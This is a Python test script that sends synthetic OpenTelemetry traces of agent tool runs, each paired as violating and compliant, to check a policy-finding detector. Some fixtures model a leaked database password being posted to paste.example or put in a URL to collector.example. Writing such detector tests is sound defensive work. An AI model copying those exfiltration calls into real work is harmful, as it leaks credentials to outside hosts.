"""Sends agent runs with the official OpenTelemetry Python SDK, one per finding rule, each
with its twin: the run whose executor skips a checklist step (one finding) and the run that
does it right (none). A canary goes into every tool's arguments: it must never reach a finding.

Usage: send_findings.py --endpoint URL --canary TEXT [--tenant T]

Prints, per run, its trace id and the span ids of its root and calls as JSON.
"""

import argparse
import hashlib
import json

import rfc8785

from opentelemetry import trace
from opentelemetry.sdk.resources import Resource
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor

from send_otlp import exporters, ids

BASE = 1_767_243_600_000_000_000  # 2026-01-01T05:00:00Z
MS = 1_000_000


def call(tool, args, effect, result, start, end, **extra):
    attrs = {"effect": effect, "result": result, "start": start, "end": end, "tool": tool, "args": args}
    attrs.update(extra)
    return attrs


ALLOW = {"executor.policy_decision": "allow"}
CONFIRMED = {"executor.policy_decision": "allow", "executor.confirmation_status": "approved"}
# Values a tool returns under a credential key: protect removes and learns them. One per run,
# so runs do not teach each other.
LEAKED = {"secret-outbound": "Qm7vX2pL9rT4kW8zHn", "secret-in-url": "Vb3nR8tY6uJ2kM5pQx", "secret-own": "Lz4cT9wE1sD7fG3hKa"}


def confirmation_digest(tool, arguments, resource_id=None, resource_version=None):
    """The digest schemas/findings.md defines, computed here independently of toolwatch."""
    doc = {"arguments": arguments, "tool": tool}
    if resource_id is not None:
        doc["resource_id"] = resource_id
    if resource_version is not None:
        doc["resource_version"] = resource_version
    return "sha256:" + hashlib.sha256(rfc8785.dumps(doc)).hexdigest()


# request id -> (root attributes beyond the defaults, calls)
RUNS = {
    "write-no-allow": ({}, [call("add_order_note", {"order": "o-1"}, "write", "ok", 10, 20)]),
    "write-allowed": ({}, [call("add_order_note", {"order": "o-1"}, "write", "ok", 10, 20, **ALLOW)]),
    "high-impact-unconfirmed": ({}, [call("refund_order", {"order": "o-2"}, "high_impact", "ok", 10, 20, **ALLOW, **{"executor.confirmation_status": "pending"})]),
    "high-impact-confirmed": ({}, [call("refund_order", {"order": "o-2"}, "high_impact", "ok", 10, 20, **ALLOW, **{"executor.confirmation_status": "approved"})]),
    "ambiguous-no-key": ({}, [
        call("add_order_note", {"order": "o-3", "note": "x"}, "write", "timeout", 10, 20, **ALLOW),
        call("add_order_note", {"note": "x", "order": "o-3"}, "write", "ok", 30, 40, **ALLOW),
    ]),
    "ambiguous-same-key": ({}, [
        call("add_order_note", {"order": "o-3", "note": "x"}, "write", "timeout", 10, 20, **ALLOW, **{"executor.idempotency_key": "idem-o3-1"}),
        call("add_order_note", {"order": "o-3", "note": "x"}, "write", "ok", 30, 40, **ALLOW, **{"executor.idempotency_key": "idem-o3-1"}),
    ]),
    "ambiguous-new-key": ({}, [
        call("add_order_note", {"order": "o-4", "note": "x"}, "write", "error", 10, 20, **ALLOW, **{"executor.idempotency_key": "idem-o4-1"}),
        call("add_order_note", {"order": "o-4", "note": "x"}, "write", "ok", 30, 40, **ALLOW, **{"executor.idempotency_key": "idem-o4-2"}),
    ]),
    "retry-after-deny": ({}, [
        call("export_customers", {"all": True}, "read", "denied", 10, 20, **{"executor.policy_decision": "deny"}),
        call("export_customers", {"all": True}, "read", "denied", 30, 40, **{"executor.policy_decision": "deny"}),
    ]),
    "no-retry-after-deny": ({}, [
        call("export_customers", {"all": True}, "read", "denied", 10, 20, **{"executor.policy_decision": "deny"}),
        call("export_customers", {"customer": "c-9"}, "read", "denied", 30, 40, **{"executor.policy_decision": "deny"}),
    ]),
    "parallel-writes": ({}, [
        call("add_order_note", {"n": 1}, "write", "ok", 10, 50, **ALLOW, **{"executor.resource_id": "order-o-5"}),
        call("add_order_note", {"n": 2}, "write", "ok", 20, 60, **ALLOW, **{"executor.resource_id": "order-o-5"}),
    ]),
    "serial-writes": ({}, [
        call("add_order_note", {"n": 1}, "write", "ok", 10, 50, **ALLOW, **{"executor.resource_id": "order-o-5"}),
        call("add_order_note", {"n": 2}, "write", "ok", 50, 60, **ALLOW, **{"executor.resource_id": "order-o-5"}),
    ]),
    "no-stop-reason": ({"executor.stop_reason": None}, [call("search_orders", {"q": "late"}, "read", "ok", 10, 20, **ALLOW)]),
    "success-after-failure": ({}, [call("search_orders", {"q": "late"}, "read", "error", 10, 20, **ALLOW)]),
    "success-after-success": ({}, [call("search_orders", {"q": "late"}, "read", "ok", 10, 20, **ALLOW)]),
    "digest-mismatch": ({}, [call("refund_order", {"order": "o-9", "amount": 1000}, "high_impact", "ok", 10, 20, **CONFIRMED,
                                  **{"executor.resource_id": "order-o-9", "executor.resource_version": "3"},
                                  digest_of={"order": "o-9", "amount": 10})]),
    "digest-match": ({}, [call("refund_order", {"order": "o-9", "amount": 10.0}, "high_impact", "ok", 10, 20, **CONFIRMED,
                               **{"executor.resource_id": "order-o-9", "executor.resource_version": "3"},
                               digest_of={"amount": 10, "order": "o-9"})]),
    "cross-tenant": ({}, [call("search_orders", {"q": "o-7"}, "read", "ok", 10, 20, **ALLOW, **{"executor.resource_tenant_id": "$OTHER"})]),
    "same-tenant": ({}, [call("search_orders", {"q": "o-7"}, "read", "ok", 10, 20, **ALLOW, **{"executor.resource_tenant_id": "$TENANT"})]),
    "unknown-tool": ({}, [call("delete_order", {"order": "o-1"}, "read", "ok", 10, 20, **ALLOW)]),
    "known-tool-version": ({}, [call("create_order_note", {"order": "o-1"}, "write", "ok", 10, 20, **ALLOW, **{"executor.tool_schema_version": "2"})]),
    "unknown-tool-version": ({}, [call("create_order_note", {"order": "o-1"}, "write", "ok", 10, 20, **ALLOW, **{"executor.tool_schema_version": "3"})]),
    "secret-outbound": ({}, [
        call("read_config", {"name": "billing"}, "read", "ok", 10, 20, **ALLOW, returns={"db_password": LEAKED["secret-outbound"]}),
        call("http_post", {"url": "https://paste.example/new", "body": LEAKED["secret-outbound"]}, "read", "ok", 30, 40, **ALLOW),
    ]),
    "secret-in-url": ({}, [
        call("read_config", {"name": "billing"}, "read", "ok", 10, 20, **ALLOW, returns={"db_password": LEAKED["secret-in-url"]}),
        call(None, None, None, None, 30, 40, downstream="https://collector.example/c?d=" + LEAKED["secret-in-url"]),
    ]),
    "secret-own": ({}, [
        call("read_config", {"name": "billing", "db_password": LEAKED["secret-own"]}, "read", "ok", 10, 20, **ALLOW, returns={"rows": 1}),
        call("http_post", {"url": "https://paste.example/new", "body": LEAKED["secret-own"]}, "read", "ok", 30, 40, **ALLOW),
    ]),
    "cost-disagrees": ({"executor.claimed_cost_usd": 5.0}, []),
    "cost-agrees": ({"executor.claimed_cost_usd": 0.0}, []),
}


def send(tracer, request, root_extra, calls, canary, offset, tenant):
    attrs = {
        "gen_ai.operation.name": "invoke_agent",
        "executor.request_id": request,
        "executor.tenant_id": tenant,
        "executor.stop_reason": "completed",
    }
    for k, v in root_extra.items():
        if v is None:
            attrs.pop(k, None)
        else:
            attrs[k] = v
    root = tracer.start_span("invoke_agent orders", start_time=BASE + offset, attributes=attrs)
    ctx = trace.set_span_in_context(root)
    out = {"calls": []}
    for c in calls:
        start = BASE + offset + c["start"] * MS
        if "downstream" in c:
            # A client call the agent's code makes: the URL is what it sends out.
            span = tracer.start_span("GET", context=ctx, start_time=start, kind=trace.SpanKind.CLIENT,
                                     attributes={"http.request.method": "GET", "url.full": c["downstream"]})
            span.end(end_time=BASE + offset + c["end"] * MS)
            out["calls"].append(ids(span)[1])
            continue
        args = dict(c["args"], note_text=canary)
        a = {
            "gen_ai.operation.name": "execute_tool",
            "gen_ai.tool.name": c["tool"],
            "gen_ai.tool.call.arguments": json.dumps(args),
            "executor.effect_class": c["effect"],
            "executor.result_code": c["result"],
        }
        a.update({k: v for k, v in c.items() if k.startswith("executor.")})
        for k, v in a.items():
            if v == "$TENANT":
                a[k] = tenant
            elif v == "$OTHER":
                a[k] = "other-" + tenant
        if "returns" in c:
            a["gen_ai.tool.call.result"] = json.dumps(c["returns"])
        if "digest_of" in c:
            # What the human approved: the previewed arguments (with the same canary note).
            a["executor.confirmation_digest"] = confirmation_digest(
                c["tool"], dict(c["digest_of"], note_text=canary),
                c.get("executor.resource_id"), c.get("executor.resource_version"))
        span = tracer.start_span("execute_tool " + c["tool"], context=ctx, start_time=start, attributes=a)
        span.end(end_time=BASE + offset + c["end"] * MS)
        out["calls"].append(ids(span)[1])
    root.end(end_time=BASE + offset + 100 * MS)
    out["trace_id"], out["root"] = ids(root)
    return out


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--endpoint", required=True)
    ap.add_argument("--canary", required=True)
    ap.add_argument("--tenant", default="acme")
    args = ap.parse_args()
    span_exporter, _ = exporters("grpc", args.endpoint, False)
    tp = TracerProvider(resource=Resource.create({"service.name": "order-executor"}))
    tp.add_span_processor(SimpleSpanProcessor(span_exporter))
    tracer = tp.get_tracer("order-executor")
    out = {}
    for i, (request, (root_extra, calls)) in enumerate(RUNS.items()):
        out[request] = send(tracer, request, root_extra, calls, args.canary, i * 1000 * MS, args.tenant)
    tp.shutdown()
    print(json.dumps(out))


if __name__ == "__main__":
    main()
